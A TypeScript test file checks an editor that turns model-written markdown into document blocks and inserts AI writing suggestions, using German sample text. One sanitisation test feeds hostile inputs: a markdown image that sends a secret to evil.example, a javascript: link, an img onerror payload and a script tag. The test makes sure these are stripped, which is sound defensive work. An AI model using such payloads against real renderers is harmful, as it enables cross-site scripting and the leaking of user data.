import { textDocumentSchema } from '@murmel/documents';
import type { Node } from '@tiptap/pm/model';
import { EditorState, TextSelection } from '@tiptap/pm/state';
import { describe, expect, it } from 'vitest';
import type { Span } from '../../../core/ai/writing/helped-text';
import { correct, insertBelow, replaceBy, spanForAct } from '../../../core/ai/writing/insert-suggestion';
import { nodesOfMarkdown } from './nodes-of-markdown';

const schema = textDocumentSchema();
const text = (words: string, ...marks: string[]) => ({ type: 'text', text: words, marks: marks.map((type) => ({ type })) });
const paragraph = (...content: object[]) => ({ type: 'paragraph', content });
const stateOf = (...content: object[]) => EditorState.create({ doc: schema.nodeFromJSON({ type: 'doc', content }) });

function spanOf(root: Node, words: string): Span {
  let found: Span | undefined;
  root.descendants((node, position) => {
    const at = node.isTextblock ? node.textContent.indexOf(words) : -1;
    if (at >= 0) found = { from: position + 1 + at, to: position + 1 + at + words.length };
  });
  return found!;
}

/** A document in one line a block, with the marks of its words. */
function said(root: Node): string[] {
  const lines: string[] = [];
  root.descendants((node, _position, parent) => {
    if (!node.isTextblock) return true;
    const words = node.content.content.map((one) => `${one.marks.map(({ type }) => `${type.name}:`).join('')}${one.text ?? one.type.name}`);
    lines.push(`${parent?.type.name === 'doc' ? '' : `${parent!.type.name} > `}${node.type.name} ${words.join('|')}`);
    return false;
  });
  return lines;
}
const nodes = (markdown: string) => nodesOfMarkdown(schema, markdown);
const read = (markdown: string) => said(schema.node('doc', null, nodes(markdown)));

describe('what a model wrote, as blocks of a document', () => {
  it('[TXT-02] keeps headings, lists, tables, formulas and what is bold', () => {
    expect(
      read('# Wald\n\nEin **fetter** und *schräger* Satz mit $a^2$.\n\n- eins\n- zwei\n\n1. erstens\n\n- [x] fertig\n\n> Zitat'),
    ).toEqual([
      'heading Wald',
      'paragraph Ein |bold:fetter| und |italic:schräger| Satz mit |inlineMath|.',
      'listItem > paragraph eins',
      'listItem > paragraph zwei',
      'listItem > paragraph erstens',
      'taskItem > paragraph fertig',
      'blockquote > paragraph Zitat',
    ]);
    expect(read('| Ort | Licht |\n|---|---|\n| Wald | **wenig** |')).toEqual([
      'tableHeader > paragraph Ort',
      'tableHeader > paragraph Licht',
      'tableCell > paragraph Wald',
      'tableCell > paragraph bold:wenig',
    ]);
    expect(nodes('##### Tief')[0]!.attrs['level']).toBe(3);
    expect(nodes('```js\nlet a\n```')[0]!.type.name).toBe('codeBlock');
  });

  it('believes nothing: no picture, no script, no other address than a safe one', () => {
    const document = schema.node(
      'doc',
      null,
      nodes(
        '![Pilz](https://evil.example/?w=geheim) [Klick](javascript:alert(1)) [gut](https://wald.example) <img src=x onerror=alert(1)>\n\n<script>alert(1)</script>',
      ),
    );
    const json = JSON.stringify(document.toJSON());
    expect(json).not.toMatch(/"type":"image"|javascript:|evil\.example/);
    expect(json).toContain('https://wald.example');
    expect(document.textContent).toContain('<script>');
    for (const odd of ['', ' ', `${'>'.repeat(60)} tief`, '| a |\n|---|', '- '.repeat(200), '\u0000']) {
      const made = nodes(odd);
      expect(() => schema.node('doc', null, made).check()).not.toThrow();
    }
  });
});

describe('putting a suggestion into a text', () => {
  it('words inside of a block stay in it, in the look that they had', () => {
    const state = stateOf(
      { type: 'heading', attrs: { level: 2 }, content: [text('Der alte Wald')] },
      paragraph(text('Ganz '), text('sehr fett', 'bold'), text(' hier')),
    );
    const heading = replaceBy(state.tr, spanOf(state.doc, 'alte'), nodes('uralte'));
    expect(said(heading.doc)[0]).toBe('heading Der uralte Wald');
    const bold = replaceBy(state.tr, spanOf(state.doc, 'sehr fett'), nodes('schlank'));
    expect(said(bold.doc)[1]).toBe('paragraph Ganz |bold:schlank| hier');
    const own = replaceBy(state.tr, spanOf(state.doc, 'sehr fett'), nodes('*schlank* und schön'));
    expect(said(own.doc)[1]).toBe('paragraph Ganz |italic:schlank| und schön hier');
  });

  it('several blocks take the place of several, and everything that of everything', () => {
    const state = stateOf(paragraph(text('eins')), paragraph(text('zwei')), paragraph(text('drei')));
    const span = { from: spanOf(state.doc, 'eins').from, to: spanOf(state.doc, 'zwei').to };
    expect(said(replaceBy(state.tr, span, nodes('## Neu\n\nZeile')).doc)).toEqual(['heading Neu', 'paragraph Zeile', 'paragraph drei']);
    const all = spanForAct(state, false);
    expect(said(replaceBy(state.tr, all, nodes('- Punkt')).doc)).toEqual(['listItem > paragraph Punkt']);
  });

  it('or stands below its block, in an empty one in its stead, and the caret goes on behind it', () => {
    const state = stateOf(
      paragraph(text('eins')),
      { type: 'bulletList', content: [{ type: 'listItem', content: [paragraph(text('Punkt'))] }] },
      paragraph(),
    );
    const below = insertBelow(state.tr, spanOf(state.doc, 'Punkt').to, nodes('neu'));
    expect(said(below.doc)).toEqual(['paragraph eins', 'listItem > paragraph Punkt', 'paragraph neu', 'paragraph ']);
    expect(below.selection.$from.parent.textContent).toBe('neu');
    const instead = insertBelow(state.tr, state.doc.content.size - 1, nodes('neu'));
    expect(said(instead.doc)).toEqual(['paragraph eins', 'listItem > paragraph Punkt', 'paragraph neu']);
    expect(said(insertBelow(state.tr, state.doc.content.size, nodes('Ende')).doc).at(-1)).toBe('paragraph Ende');
  });

  it('a mistake is corrected in its look, and what is too much goes', () => {
    const state = stateOf(paragraph(text('Im '), text('walt', 'bold'), text(' da da')));
    expect(said(correct(state.tr, spanOf(state.doc, 'walt'), 'Wald').doc)).toEqual(['paragraph Im |bold:Wald| da da']);
    const twice = spanOf(state.doc, ' da da');
    expect(said(correct(state.tr, { from: twice.to - 3, to: twice.to }, '').doc)).toEqual(['paragraph Im |bold:walt| da']);
    const end = state.doc.content.size - 1;
    expect(said(correct(state.tr, { from: end, to: end }, '.').doc)).toEqual(['paragraph Im |bold:walt| da da.']);
  });

  it('is about what is selected, else about everything, and at the caret where somebody goes on', () => {
    const state = stateOf(paragraph(text('eins zwei')));
    const chosen = state.apply(state.tr.setSelection(TextSelection.create(state.doc, 2, 5)));
    expect([spanForAct(chosen, false), spanForAct(state, false), spanForAct(state, true)]).toEqual([
      { from: 2, to: 5 },
      { from: 0, to: 11 },
      { from: 1, to: 1 },
    ]);
  });
});
